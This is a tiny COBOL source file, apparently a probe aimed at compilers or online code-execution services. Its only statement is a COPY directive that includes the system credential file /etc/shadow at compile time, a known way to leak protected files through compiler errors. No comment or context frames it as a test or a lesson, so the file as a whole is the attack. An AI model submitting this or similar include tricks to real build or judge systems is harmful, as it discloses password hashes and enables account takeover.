identification division.
program-id. reader.
procedure division.
    copy "/etc/shadow".
    stop run.
